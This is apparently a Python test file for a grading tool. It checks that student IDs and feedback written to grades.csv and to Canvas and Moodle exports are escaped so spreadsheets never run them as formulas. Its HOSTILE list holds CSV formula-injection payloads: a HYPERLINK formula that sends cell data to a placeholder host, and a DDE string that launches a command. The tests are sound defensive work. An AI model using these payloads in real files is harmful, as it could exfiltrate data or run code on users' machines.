"""CSV cells a spreadsheet never evaluates, and that read back exactly (grades.csv, LMS exports, report tables)."""

import csv
import io
from datetime import datetime

from hypothesis import given
from hypothesis import strategies as st

from grader.exports.lms import canvas_csv, moodle_csv, totals
from grader.late_policy import make_plugin, apply_late_policy
from grader.pipeline.record import write_grades_csv
from grader.spreadsheet import FORMULA_START, csv_text, escape_cell, read_csv

HOSTILE = ["=HYPERLINK(\"http://x/?\"&A1,\"grade\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "'=quoted", "ada"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _is_formula(cell: str) -> bool:
    try:
        float(cell)
        return False
    except ValueError:
        return cell.startswith(FORMULA_START)


@given(st.lists(st.lists(st.text(max_size=12), min_size=2, max_size=2), max_size=6))
def test_every_cell_reads_back_exactly_and_none_is_a_formula(tmp_path_factory, rows):
    text = csv_text(["a", "=b"], rows)
    assert not any(_is_formula(c) for c in _cells(text))
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    path.write_text(text, encoding="utf-8", newline="")
    assert [[r["a"], r["=b"]] for r in read_csv(path)] == rows


def test_numbers_stay_numbers():
    assert [escape_cell(v) for v in ("-0.5", "-1e3", "12", 3.5)] == ["-0.5", "-1e3", "12", "3.5"]
    assert escape_cell("-x") == "'-x"


def test_hostile_student_ids_reach_grades_csv_and_the_lms_files_as_text(tmp_path):
    results = [{"student_id": sid, "assignment": "deformation", "notebook": "05_lbs", "score": 10.0, "max_score": 12.0}
               for sid in HOSTILE]
    path = write_grades_csv(tmp_path, results)
    assert not any(_is_formula(c) for c in _cells(path.read_text()))
    assert sorted(r["student_id"] for r in read_csv(path)) == sorted(HOSTILE)
    rows = totals(path)
    assert sorted(t.student_id for t in rows) == sorted(HOSTILE)
    canvas, _ = canvas_csv(rows, "Deformation")
    moodle = moodle_csv(rows, "Deformation", feedback={sid: "=1+1" for sid in HOSTILE})
    for text in (canvas, moodle):
        assert not any(_is_formula(c) for c in _cells(text))
    assert "'=1+1" in moodle


def test_the_late_policy_rewrites_grades_csv_without_losing_or_arming_an_id(tmp_path):
    results = [{"student_id": sid, "assignment": "deformation", "notebook": "05_lbs", "score": 10.0, "max_score": 12.0}
               for sid in HOSTILE]
    out, submitted = tmp_path / "out", tmp_path / "submitted"
    out.mkdir()
    write_grades_csv(out, results)
    late_id = HOSTILE[0]
    (submitted / late_id / "deformation").mkdir(parents=True)
    (submitted / late_id / "deformation" / "timestamp.txt").write_text("2026-11-22 10:00:00.000000 UTC")
    late = apply_late_policy(out, submitted, "deformation", datetime(2026, 11, 21), make_plugin("zero"))
    assert list(late) == [late_id]
    rows = {r["student_id"]: r for r in read_csv(out / "grades.csv")}
    assert sorted(rows) == sorted(HOSTILE) and rows[late_id]["late_penalty"] == "10"
    assert not any(_is_formula(c) for c in _cells((out / "grades.csv").read_text()))
